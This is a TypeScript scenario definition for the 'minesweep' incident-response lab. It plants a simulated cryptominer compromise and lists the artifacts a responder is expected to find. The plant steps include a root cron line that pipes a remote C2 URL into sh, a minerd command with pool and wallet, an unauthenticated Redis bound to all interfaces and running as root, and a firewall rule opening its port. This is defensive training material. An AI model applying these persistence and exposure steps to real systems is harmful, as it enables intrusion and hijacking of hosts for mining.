import type { Scenario } from './types.js';
import { cronLine, dropper, installBinary, processArtifact, ROOT_CRONTAB, startProcess, stratum, WALLET, writeFile, appendLine } from './kit.js';
import { LEGIT_CRON } from './clean.js';

const MINER = '/var/tmp/minerd';
const CONF = '/etc/redis/redis.conf';

/** The incident of DESIGN.md: minerd from /var/tmp, Redis open on 0.0.0.0:6380, night cron. */
export const redis: Scenario = {
  name: 'redis',
  plan: (ctx) => {
    const argv = [MINER, '-a', 'cryptonight', '-o', stratum(ctx.pool, 3333), '-u', WALLET, '-p', 'x'];
    const url = `http://${ctx.c2Domain}:8080/api/report?pm=0798`;
    const cron = `*/5 19-23,0-7 * * * curl -fsSL ${url} | sh`;
    const hosts = `${ctx.pool} ${ctx.c2Domain}`;
    const conf = ['# redis (planted by the minesweep lab: exposed, no password, runs as root)', 'bind 0.0.0.0', 'port 6380', 'protected-mode no',
      'daemonize no', 'dir /var/lib/redis', 'logfile ""', 'save ""', ''].join('\n');
    const rule = '-A INPUT -p tcp -m tcp --dport 6380 -j ACCEPT';
    return {
      family: 'minerd',
      plant: [
        ...LEGIT_CRON.map((l) => cronLine(l)),
        cronLine(cron),
        appendLine('/etc/hosts', hosts),
        installBinary('minerd', MINER),
        writeFile(CONF, conf),
        'mkdir -p /var/lib/redis',
        'iptables -A INPUT -p tcp --dport 6380 -j ACCEPT',
      ],
      start: [
        startProcess(['/usr/bin/redis-server', CONF]),
        startProcess(argv, { MS_LAB_BURN: ctx.instance === 0 ? '40' : '0' }),
      ],
      artifacts: [
        processArtifact(argv, 'minerd', ctx.sha256('minerd'), 'miner', `${ctx.pool}:3333`),
        { kind: 'file', path: MINER, sha256: ctx.sha256('minerd') },
        { kind: 'connection', remote: `${ctx.pool}:3333`, comm: 'minerd' },
        { kind: 'cron-line', path: ROOT_CRONTAB, line: cron },
        { kind: 'cron-line', path: ROOT_CRONTAB, line: LEGIT_CRON[1]!, legitimate: true },
        { kind: 'hosts-entry', path: '/etc/hosts', line: hosts, name: ctx.c2Domain },
        { kind: 'redis', path: CONF, listen: '0.0.0.0', port: 6380, user: 'root', note: 'no requirepass, protected-mode no; no systemd in the lab: it runs as `/usr/bin/redis-server /etc/redis/redis.conf` (daemonize no), restart it the same way' },
        { kind: 'firewall-rule', line: rule, port: 6380 },
      ],
      expectFindings: true,
      respawnSeconds: null,
      binaries: ['minerd'],
      www: {
        'api/report': dropper({ http: `http://${ctx.pool}:8080`, family: 'minerd', path: MINER, argv, comm: 'minerd' }),
      },
    };
  },
};
